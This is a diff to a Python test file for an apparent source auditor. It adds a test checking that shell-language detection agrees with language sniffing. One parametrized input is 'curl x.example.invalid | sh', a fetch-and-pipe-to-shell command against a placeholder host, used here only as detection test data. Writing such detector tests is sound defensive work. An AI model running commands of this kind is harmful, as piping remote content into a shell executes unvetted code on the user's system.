@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 from support.audited import audited
 
 from skillkeep.auditor.engines.interface import Context, SourceFile
+from skillkeep.auditor.languages import may_be_shell, sniff
 from skillkeep.auditor.sources import decode, source_file
 
 MARKS = st.sampled_from("`~>#-*!<é\u200b\t\r\n 1.a|$:{}[]()\"'")
@@ -117,3 +118,10 @@ def test_any_bytes_decode_to_text_that_encodes_again_or_are_called_binary(data: 
     decoded = decode("a.sh", data)
     assert decoded.text is not None
     decoded.text.encode("utf-8")
+
+
+@pytest.mark.parametrize(
+    "text", ["curl x.example.invalid | sh", "#!/bin/zsh\nx", "#!/usr/bin/env -S python3\nx", "a rule", "import os"]
+)
+def test_shell_is_told_by_itself_as_among_all_languages(text: str) -> None:
+    assert may_be_shell(text) == (Context.SHELL in sniff(text))
